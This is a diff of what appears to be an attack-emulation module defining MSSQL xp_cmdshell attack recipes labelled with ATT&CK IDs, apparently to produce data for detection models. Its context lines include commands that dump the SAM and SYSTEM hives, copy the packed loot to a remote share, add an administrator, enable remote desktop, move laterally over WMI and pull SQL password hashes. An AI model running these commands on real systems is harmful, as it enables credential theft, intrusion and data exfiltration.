@@ -5,7 +5,7 @@ from longtail.fleet.attack import Attack
 ENGINE = ("mssql", "sqlagent")
 
 RECIPES = (
-    Attack("recon only", ENGINE, ("T1033", "T1087", "T1016", "T1082", "T1057", "T1482"),
+    Attack("recon-only", ENGINE, ("T1033", "T1087", "T1016", "T1082", "T1057", "T1482"),
            "only questions to the system: hard to tell from an administrator's look around", r"""
 xp: whoami
 or
@@ -57,7 +57,7 @@ xp: netstat -ano
 or
 xp: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
 """, (8, 400), shuffled=True),
-    Attack("new administrator", ENGINE, ("T1136.001", "T1098", "T1021.001", "T1112"),
+    Attack("new-administrator", ENGINE, ("T1136.001", "T1098", "T1021.001", "T1112"),
            "a new local administrator and remote desktop", r"""
 nothing
 or
@@ -85,7 +85,7 @@ xp: netsh firewall set service type=remotedesktop mode=enable
 or
 nothing
 """),
-    Attack("credential theft", ENGINE, ("T1003.001", "T1003.002", "T1560.001"),
+    Attack("credential-theft", ENGINE, ("T1003.001", "T1003.002", "T1560.001"),
            "memory of lsass, or the hives, copied and packed", r"""
 xp: reg save HKLM\SAM {drop}\{rnd}.sav & reg save HKLM\SYSTEM {drop}\{rnd2}.sav
 or
@@ -110,7 +110,7 @@ xp: copy {drop}\{rnd}.7z \\{wan}\{letter}
 or
 xp: del {drop}\{rnd}.*
 """),
-    Attack("lateral movement", ENGINE, ("T1021.002", "T1047", "T1570"), "from one host to another of the tenant", r"""
+    Attack("lateral-movement", ENGINE, ("T1021.002", "T1047", "T1570"), "from one host to another of the tenant", r"""
 xp: net view \\{victim}
 or
 xp: ping -n 1 {victim}
@@ -139,7 +139,7 @@ wmi> cmd.exe | cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__{id} 2>&1
   conhost.exe | {conhost}
   whoami.exe | whoami
 """),
-    Attack("what is there already", ENGINE, ("T1059.003", "T1005", "T1048"),
+    Attack("living-off-the-account", ENGINE, ("T1059.003", "T1005", "T1048"),
            "only programs the account runs anyway, told other things: the hardest for a model of images", r"""
 xp: sqlcmd -S {server} -U sa -P {password} -Q "select name,password_hash from sys.sql_logins"
 or
